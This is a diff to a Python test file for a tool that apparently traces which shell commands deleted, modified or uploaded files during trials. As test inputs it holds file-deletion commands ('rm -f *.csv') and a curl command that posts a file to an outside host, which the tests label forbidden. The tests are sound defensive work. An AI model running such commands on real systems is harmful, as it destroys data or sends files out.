@@ -270,6 +270,14 @@ def test_what_was_emptied_is_told_though_the_end_state_only_shows_another_conten
     ]
 
 
+def test_a_change_that_another_step_made_is_not_the_deletion():
+    later = _file("/app/a.csv", "modified", step=4, evidence=(4,))
+    assert added(["rm -f *.csv"], later) == []
+    assert added(["rm -f *.csv"], _file("/app/a.csv", "modified", step=4, evidence=(0, 4))) == [
+        ("file", "/app/a.csv")
+    ]
+
+
 def test_what_leaves_no_trace_is_told_by_the_call():
     row = call_effects(
         "t", acts("ls", "curl -d @x https://up.example.org"), (), judge=lambda *of: ("forbidden", 1.0)
@@ -351,3 +359,9 @@ def test_the_docs_have_every_row_of_the_table():
 def test_a_trial_that_deletes_thousands_of_files_one_by_one_is_read_in_no_time():
     lines = [" ".join(["rm", *(f"d{call}/f{n}" for n in range(2000))]) for call in range(20)]
     assert len(operations(acts(*lines), workdir="/app")) == 1000
+
+
+def test_tens_of_thousands_of_effects_are_looked_through_in_no_time():
+    state = [_file(f"/app/d{n % 20}/f{n}", "modified", irreversible=False) for n in range(30_000)]
+    lines = [" ".join(["rm", *(f"d{call}/f{n}" for n in range(100)), "*.x"]) for call in range(20)]
+    assert len(call_effects("t", acts(*lines), state, workdir="/app")) == 50
